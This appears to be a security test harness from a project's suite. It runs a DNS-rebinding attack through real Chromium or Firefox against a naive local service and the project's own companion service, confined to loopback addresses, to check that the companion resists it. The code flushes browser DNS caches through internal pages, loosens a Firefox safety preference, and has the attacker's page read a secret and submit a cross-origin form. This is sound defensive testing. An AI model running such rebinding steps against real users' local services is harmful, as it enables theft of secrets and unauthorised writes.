"""Rebinds a name under a page in a real browser, against a naive service and the companion: see test_rebinding.py.

Run in a network of its own: `python -m tests.attack.evil.rebinding BROWSER FOLDER` prints what came of each kind.
"""

import json
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING, cast

from companion.demo.api import Json
from companion.demo.browser import Browser
from companion.demo.launch import find
from companion.demo.pages import serve
from companion.demo.polling import until
from companion.demo.screen import Screen
from companion.demo.service import Service, free_port
from tests.attack.evil.naive import SECRET, serving, trusting
from tests.attack.evil.resolver import Resolver, answering
from tests.attack.evil.scripts import script
from tests.attack.evil.state import holding_a_secret, state_of
from tests.attack.length import LONG

if TYPE_CHECKING:
    from companion.demo.chromium import Chromium
    from companion.demo.firefox import Firefox

# A loopback address too: so a browser's Local Network Access, which not every browser has, is no part of the defence.
ATTACKER = "127.0.0.2"
VICTIM = "127.0.0.1"
# What the name stands for before and after; of two answers a browser takes the second when the first is shut.
KINDS = {
    "another answer": ([ATTACKER], [VICTIM]),
    "another answer, 0.0.0.0": ([ATTACKER], ["0.0.0.0"]),
    "two answers": ([ATTACKER, "0.0.0.0"], [ATTACKER, "0.0.0.0"]),
}
SHORT = ("another answer", "two answers")
_PAGE = "<!doctype html><meta charset=utf-8><title>Evil</title><h1>A page of the attacker's</h1>"
# An older browser would let a page reach 0.0.0.0; the companion does not count on a newer one.
_OLDER = "Services.prefs.setBoolPref('network.socket.ip_addr_any.disabled', false);"
_REAL_NAMES = "Services.prefs.clearUserPref('network.dns.forceResolve');"


def attack(browser: Browser, kind: str, port: int, resolver: Resolver, token: str) -> Json:
    """What a page of the attacker's at evil.test reads and is answered once its name has been rebound."""
    before, after = KINDS[kind]
    resolver.addresses = before
    with serving(ATTACKER, port, _PAGE):
        forget_names(browser)
        page = browser.open(f"http://evil.test:{port}/")
        assert "the attacker's" in page.text()
    resolver.addresses = after
    if not LONG:
        forget_names(browser)  # the long form waits until the browser does so itself
    asked = "fetch('/v1/hello').then((reply) => reply.status, () => 0)"
    until("the name to lead to the other side", lambda: page.evaluate(asked), seconds=180)
    reach = script("reach")
    found: Json = page.evaluate(f"{reach}(location.origin, {token!r}, {SECRET!r})")
    return found | {"shown": shown(browser, page, port)}


def shown(browser: Browser, page: Screen, port: int) -> str:
    """What a page opened at the rebound name shows, and one that a form leads to."""
    top = browser.open(f"http://evil.test:{port}/v1/contacts").text()
    page.bring_to_front()
    page.evaluate(
        "(() => { const form = Object.assign(document.createElement('form'), {method: 'post', enctype: 'text/plain',"
        " action: '/v1/captures'}); document.body.append(form); setTimeout(() => form.submit()); })()"
    )
    until("the form to have led on", lambda: page.url().endswith("/v1/captures"))
    return top + page.text()


def forget_names(browser: Browser) -> None:
    """Let the minute pass for which browsers keep what a name meant."""
    if browser.name == "chromium":
        page = cast("Chromium", browser).context.new_page()
        page.goto("chrome://net-internals/#dns")
        page.evaluate("() => { chrome.send('clearHostResolverCache'); chrome.send('flushSocketPools'); }")
        page.close()
    else:
        in_its_own_code(browser, "Services.dns.clearCache(true);")


def in_its_own_code(browser: Browser, script: str) -> None:
    """Run a script in Firefox as a part of it."""
    driver = cast("Firefox", browser).driver
    with driver.using_context("chrome"):
        driver.execute_script(script)


@contextmanager
def victim(folder: Path, *, is_naive: bool) -> Iterator[tuple[int, str, Callable[[], Json]]]:
    """A service that holds the secret: its port, a token of it, and what tells whether anything was written."""
    port = free_port()
    if is_naive:
        with trusting(VICTIM, port) as naive:
            yield port, "none", lambda: len(naive.written)
        return
    folder.mkdir()
    service = Service(folder, port)
    service.start()
    try:
        token = holding_a_secret(service)
        yield port, token, lambda: state_of(service)
    finally:
        service.stop()


def main(name: str, folder: str) -> None:
    """Every kind against both victims, in one browser."""
    found: dict[str, Json] = {}
    with (
        answering(VICTIM, [ATTACKER]) as resolver,
        serve({"https://quiet.example/": _PAGE}) as served,
        find(name, visible=False).launched(served, visible=False) as browser,
    ):
        browser.welcome()
        if name == "firefox":
            in_its_own_code(browser, _REAL_NAMES + _OLDER)
        for which in ("naive", "companion"):
            for kind in KINDS if LONG else SHORT:
                with victim(Path(folder, kind), is_naive=which == "naive") as (port, token, written):
                    before = written()
                    outcome = attack(browser, kind, port, resolver, token)
                    found[f"{kind}: {which}"] = outcome | {"wrote": written() != before}
    print(json.dumps(found))  # noqa: T201 - for the test that runs this


if __name__ == "__main__":
    main(*sys.argv[1:])
